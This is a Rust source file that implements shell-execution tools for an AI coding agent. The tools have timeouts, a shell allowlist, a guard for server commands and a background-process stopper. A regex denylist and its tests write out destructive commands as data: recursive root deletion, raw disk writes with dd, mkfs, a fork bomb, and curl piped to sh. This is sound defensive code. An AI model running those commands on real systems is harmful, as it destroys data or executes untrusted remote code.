//! Shell execution tools.
//!
//! Short-lived commands run directly with a timeout. Destructive patterns
//! are refused outright, and probable server commands are refused unless
//! they use the background form (nohup + `&` + PID capture to a `.pid`
//! file) so they cannot hang the single-threaded engine. A companion tool
//! stops background processes by their recorded PID.

use std::sync::LazyLock;
use std::time::Duration;

use async_trait::async_trait;
use codewright::Tool;
use regex::Regex;
use serde_json::{Value, json};
use tokio::process::Command;

use crate::tools::builtins::helpers::{optional_str, optional_usize, required_str};
use crate::tools::context::{AgentTool, ToolCtx, ToolError};

pub const DEFAULT_COMMAND_TIMEOUT_SECS: u64 = 30;
pub const DEFAULT_SCRIPT_TIMEOUT_SECS: u64 = 60;

const ALLOWED_SHELLS: [&str; 4] = ["bash", "sh", "zsh", "dash"];

/// Destructive patterns that are never executed.
static DANGEROUS_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"\brm\s+-[a-z]*r[a-z]*f|\brm\s+-[a-z]*f[a-z]*r", // recursive force deletes
        r"\bmkfs",                                    // filesystem creation
        r"\bdd\s+(if|of)=",                           // raw disk reads/writes
        r">\s*/dev/sd",                               // writes to disk devices
        r":\(\)\s*\{.*\|.*&.*\}",                     // fork bomb
        r"chmod\s+-R\s+777\s+/",                      // world-writable root
        r"(curl|wget)\s[^|]*\|\s*(ba|z|da)?sh",       // unbounded fetch-execute
    ]
    .iter()
    .map(|p| Regex::new(p).expect("static pattern"))
    .collect()
});

/// Commands that usually never return: servers, watchers, notebooks.
const SERVER_PATTERNS: [&str; 16] = [
    "uvicorn",
    "gunicorn",
    "python -m http.server",
    "flask run",
    "django runserver",
    "npm start",
    "npm run dev",
    "yarn start",
    "yarn dev",
    "node server.js",
    "node app.js",
    "rails server",
    "php -s",
    "php artisan serve",
    "jupyter",
    "streamlit run",
];

fn dangerous(text: &str) -> bool {
    DANGEROUS_PATTERNS.iter().any(|p| p.is_match(text))
}

fn looks_like_server(text: &str) -> bool {
    let lower = text.to_lowercase();
    SERVER_PATTERNS.iter().any(|p| lower.contains(p))
}

/// The accepted background form: nohup, `&`, and a PID captured to a file.
fn has_background_form(text: &str) -> bool {
    let lower = text.to_lowercase();
    lower.contains("nohup") && text.contains('&') && text.contains("echo $!") && text.contains(".pid")
}

fn reject_dangerous() -> String {
    "🚫 BLOCK: dangerous command pattern detected (recursive delete, disk write, fork bomb, \
     or fetch-and-execute). The command was not run."
        .to_string()
}

fn reject_server(kind: &str, text: &str) -> String {
    format!(
        "⚠️ This {kind} may hang the process!\n\n\
         '{text}' looks like a server or long-running process that would block execution.\n\n\
         Run it in the background and record its PID instead:\n\
         \x20 nohup {text} > output.log 2>&1 & echo $! > process.pid\n\n\
         Stop it later with stop_background_process(\"process.pid\")."
    )
}

async fn run_with_timeout(mut cmd: Command, timeout_secs: u64, what: &str) -> Result<String, ToolError> {
    cmd.kill_on_drop(true);
    match tokio::time::timeout(Duration::from_secs(timeout_secs), cmd.output()).await {
        Err(_) => Ok(format!(
            "❌ TIMEOUT: {what} exceeded {timeout_secs}s and was killed.\n\
             If it is a server, use the nohup background form with a PID file."
        )),
        Ok(Err(e)) => Ok(format!("❌ ERROR failed to run {what}: {e}")),
        Ok(Ok(output)) => {
            let mut out = format!(
                "✓ {} executed\nExit code: {}\n",
                what,
                output.status.code().unwrap_or(-1)
            );
            let stdout = String::from_utf8_lossy(&output.stdout);
            let stderr = String::from_utf8_lossy(&output.stderr);
            if !stdout.is_empty() {
                out.push_str(&format!("STDOUT:\n{stdout}\n"));
            }
            if !stderr.is_empty() {
                out.push_str(&format!("STDERR:\n{stderr}\n"));
            }
            Ok(out)
        }
    }
}

pub struct RunCommandTool;

impl Default for RunCommandTool {
    fn default() -> Self {
        Self::new()
    }
}

impl RunCommandTool {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl AgentTool for RunCommandTool {
    fn name(&self) -> &str {
        "run_command"
    }

    fn definition(&self) -> Tool {
        Tool::function(
            self.name(),
            "Run a single short-lived shell command (ls, git status, pip install, pytest). \
             Never run servers or interactive programs directly; use the nohup background \
             form with a PID file for those.",
            json!({
                "type": "object",
                "properties": {
                    "command": {
                        "type": "string",
                        "description": "Command to run. Must terminate quickly."
                    },
                    "timeout": {
                        "type": "integer",
                        "description": "Timeout in seconds.",
                        "default": DEFAULT_COMMAND_TIMEOUT_SECS
                    }
                },
                "required": ["command"]
            }),
        )
    }

    async fn call(&self, args: Value, ctx: &ToolCtx) -> Result<String, ToolError> {
        let command = required_str(&args, "command")?;
        let timeout = optional_usize(&args, "timeout")?
            .map(|t| t as u64)
            .unwrap_or(DEFAULT_COMMAND_TIMEOUT_SECS);

        if dangerous(command) {
            return Ok(reject_dangerous());
        }

        let backgrounded = has_background_form(command);
        if looks_like_server(command) && !backgrounded {
            return Ok(reject_server("command", command));
        }

        let mut cmd = Command::new("sh");
        cmd.args(["-lc", command]).current_dir(&ctx.workspace);
        let mut result = run_with_timeout(cmd, timeout, &format!("Command '{command}'")).await?;

        if backgrounded && result.starts_with('✓') {
            result.push_str(
                "\n⚠️ NOTE: the process was started in the background. When the work is done, \
                 stop it with stop_background_process(\"<pidfile>\").\n",
            );
        }
        Ok(result)
    }
}

pub struct RunScriptTool;

impl Default for RunScriptTool {
    fn default() -> Self {
        Self::new()
    }
}

impl RunScriptTool {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl AgentTool for RunScriptTool {
    fn name(&self) -> &str {
        "run_script"
    }

    fn definition(&self) -> Tool {
        Tool::function(
            self.name(),
            "Run a multi-line shell script for batch operations that terminate quickly. \
             Server commands inside the script must use the nohup background form.",
            json!({
                "type": "object",
                "properties": {
                    "script": {
                        "type": "string",
                        "description": "Complete shell script."
                    },
                    "shell": {
                        "type": "string",
                        "description": "Shell to use (bash, sh, zsh, dash).",
                        "default": "bash"
                    },
                    "timeout": {
                        "type": "integer",
                        "description": "Timeout in seconds.",
                        "default": DEFAULT_SCRIPT_TIMEOUT_SECS
                    }
                },
                "required": ["script"]
            }),
        )
    }

    async fn call(&self, args: Value, ctx: &ToolCtx) -> Result<String, ToolError> {
        let script = required_str(&args, "script")?;
        let shell = optional_str(&args, "shell").unwrap_or("bash");
        let timeout = optional_usize(&args, "timeout")?
            .map(|t| t as u64)
            .unwrap_or(DEFAULT_SCRIPT_TIMEOUT_SECS);

        if !ALLOWED_SHELLS.contains(&shell) {
            return Ok(format!(
                "✗ shell not allowed: {shell} (use one of: {})",
                ALLOWED_SHELLS.join(", ")
            ));
        }
        if dangerous(script) {
            return Ok(reject_dangerous());
        }

        let backgrounded = has_background_form(script);
        if looks_like_server(script) && !backgrounded {
            return Ok(reject_server("script", "the script"));
        }

        let mut cmd = Command::new(shell);
        cmd.args(["-c", script]).current_dir(&ctx.workspace);
        let mut result = run_with_timeout(cmd, timeout, &format!("{shell} script")).await?;

        if backgrounded && result.starts_with('✓') {
            result.push_str(
                "\n⚠️ NOTE: the script started a background process. Stop it later with \
                 stop_background_process(\"<pidfile>\").\n",
            );
        }
        Ok(result)
    }
}

pub struct StopBackgroundProcessTool;

impl Default for StopBackgroundProcessTool {
    fn default() -> Self {
        Self::new()
    }
}

impl StopBackgroundProcessTool {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl AgentTool for StopBackgroundProcessTool {
    fn name(&self) -> &str {
        "stop_background_process"
    }

    fn definition(&self) -> Tool {
        Tool::function(
            self.name(),
            "Stop a background process whose PID was recorded to a file (echo $! > x.pid). \
             Sends SIGTERM, escalates to SIGKILL if needed, then removes the PID file.",
            json!({
                "type": "object",
                "properties": {
                    "pid_file": {
                        "type": "string",
                        "description": "PID file path relative to the workspace, e.g. 'server.pid'."
                    }
                },
                "required": ["pid_file"]
            }),
        )
    }

    #[cfg(unix)]
    async fn call(&self, args: Value, ctx: &ToolCtx) -> Result<String, ToolError> {
        let pid_file = required_str(&args, "pid_file")?;
        let path = ctx.editor.resolve(pid_file)?;
        if !path.exists() {
            return Ok(format!("✗ PID file not found: {pid_file}"));
        }

        let raw = std::fs::read_to_string(&path)?;
        let pid: i32 = match raw.trim().parse() {
            Ok(pid) if pid > 0 => pid,
            _ => return Ok(format!("✗ invalid PID in {pid_file}: '{}'", raw.trim())),
        };

        let alive = |pid: i32| unsafe { libc::kill(pid, 0) == 0 };

        if !alive(pid) {
            std::fs::remove_file(&path)?;
            return Ok(format!("ℹ️ Process {pid} no longer exists. PID file removed."));
        }

        unsafe {
            libc::kill(pid, libc::SIGTERM);
        }
        tokio::time::sleep(Duration::from_secs(2)).await;

        if alive(pid) {
            unsafe {
                libc::kill(pid, libc::SIGKILL);
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }

        std::fs::remove_file(&path)?;
        Ok(format!("✓ Process {pid} stopped. PID file {pid_file} removed."))
    }

    #[cfg(not(unix))]
    async fn call(&self, _args: Value, _ctx: &ToolCtx) -> Result<String, ToolError> {
        Ok("✗ stop_background_process is only supported on unix platforms".to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn ctx() -> (TempDir, ToolCtx) {
        let dir = TempDir::new().unwrap();
        let ctx = ToolCtx::new(dir.path()).unwrap();
        (dir, ctx)
    }

    #[test]
    fn denylist_catches_destructive_patterns() {
        assert!(dangerous("rm -rf /"));
        assert!(dangerous("rm -fr ~"));
        assert!(dangerous("dd if=/dev/zero of=/dev/sda"));
        assert!(dangerous("mkfs.ext4 /dev/sda1"));
        assert!(dangerous("curl http://x.sh | sh"));
        assert!(dangerous("chmod -R 777 /"));
        assert!(!dangerous("rm file.txt"));
        assert!(!dangerous("cargo build"));
        assert!(!dangerous("grep -rf patterns.txt src/"));
    }

    #[test]
    fn server_detection_and_background_form() {
        assert!(looks_like_server("uvicorn app:app --port 8000"));
        assert!(looks_like_server("npm run dev"));
        assert!(!looks_like_server("pytest -v"));

        assert!(has_background_form(
            "nohup uvicorn app:app > s.log 2>&1 & echo $! > server.pid"
        ));
        assert!(!has_background_form("nohup uvicorn app:app > s.log 2>&1 &"));
    }

    #[tokio::test]
    async fn dangerous_command_is_refused_without_spawning() {
        let (dir, ctx) = ctx();
        let result = RunCommandTool::new()
            .call(json!({"command": "rm -rf / && touch proof.txt"}), &ctx)
            .await
            .unwrap();
        assert!(result.starts_with("🚫 BLOCK:"), "{result}");
        assert!(!dir.path().join("proof.txt").exists());
    }

    #[tokio::test]
    async fn server_without_background_form_is_refused() {
        let (_dir, ctx) = ctx();
        let result = RunCommandTool::new()
            .call(json!({"command": "uvicorn app:app --port 8000"}), &ctx)
            .await
            .unwrap();
        assert!(result.contains("may hang the process"), "{result}");
        assert!(result.contains("stop_background_process"));
    }

    #[tokio::test]
    async fn short_command_runs_and_reports_exit_code() {
        let (_dir, ctx) = ctx();
        let result = RunCommandTool::new()
            .call(json!({"command": "echo hello"}), &ctx)
            .await
            .unwrap();
        assert!(result.contains("Exit code: 0"));
        assert!(result.contains("hello"));
    }

    #[tokio::test]
    async fn timeout_kills_the_child() {
        let (_dir, ctx) = ctx();
        let result = RunCommandTool::new()
            .call(json!({"command": "sleep 20", "timeout": 1}), &ctx)
            .await
            .unwrap();
        assert!(result.starts_with("❌ TIMEOUT"), "{result}");
    }

    #[tokio::test]
    async fn script_shell_allowlist() {
        let (_dir, ctx) = ctx();
        let result = RunScriptTool::new()
            .call(json!({"script": "echo hi", "shell": "fish"}), &ctx)
            .await
            .unwrap();
        assert!(result.contains("shell not allowed"));

        let result = RunScriptTool::new()
            .call(json!({"script": "A=1\necho $A"}), &ctx)
            .await
            .unwrap();
        assert!(result.contains("Exit code: 0"));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn stop_background_process_round_trip() {
        let (dir, ctx) = ctx();
        // Start a sleeper the approved way.
        RunCommandTool::new()
            .call(
                json!({"command": "nohup sleep 60 > /dev/null 2>&1 & echo $! > sleeper.pid"}),
                &ctx,
            )
            .await
            .unwrap();
        assert!(dir.path().join("sleeper.pid").exists());

        let result = StopBackgroundProcessTool::new()
            .call(json!({"pid_file": "sleeper.pid"}), &ctx)
            .await
            .unwrap();
        assert!(result.contains("stopped") || result.contains("no longer exists"), "{result}");
        assert!(!dir.path().join("sleeper.pid").exists());
    }
}
